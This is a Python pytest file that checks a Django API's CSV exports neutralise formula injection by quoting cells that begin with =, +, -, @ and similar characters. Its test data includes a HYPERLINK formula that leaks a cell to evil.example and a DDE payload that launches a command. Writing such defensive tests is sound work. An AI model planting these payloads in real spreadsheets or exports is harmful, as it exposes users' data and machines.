"""Every CSV export is safe to open in a spreadsheet: text from users never runs as a formula."""

import csv
import io
from decimal import Decimal

import pytest

from practices.models import Practice

pytestmark = pytest.mark.django_db


def test_csv_export_neutralises_formulas_from_users(api, catalogue):
    Practice.objects.filter(slug="career-bridge").update(
        title='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        funding_note="-2+3",
        funding_amount=Decimal("1500000"),
        start_year=2003,
    )
    catalogue["triec"].name = "+TRIEC"
    catalogue["triec"].save()

    response = api.get("/api/v1/practices/?format=csv&city=toronto")

    text = response.getvalue().decode()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["funding_note"] == "'-2+3"
    assert row["lead_organisation"] == "'+TRIEC"
    assert row["partners"] == ""
    # Numeric columns stay numbers, unquoted, so spreadsheets can add them up.
    assert row["funding_amount"] == "1500000.00"
    assert ",1500000.00," in text and ",2003," in text
    for cell in row.values():
        assert cell[:1] not in set("=+-@\t\r")


def test_publication_csv_is_neutralised_too(api, catalogue):
    catalogue["report"].title = "=1+1"
    catalogue["report"].save()

    response = api.get("/api/v1/publications/?format=csv")

    (row,) = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
    assert row["title"] == "'=1+1"
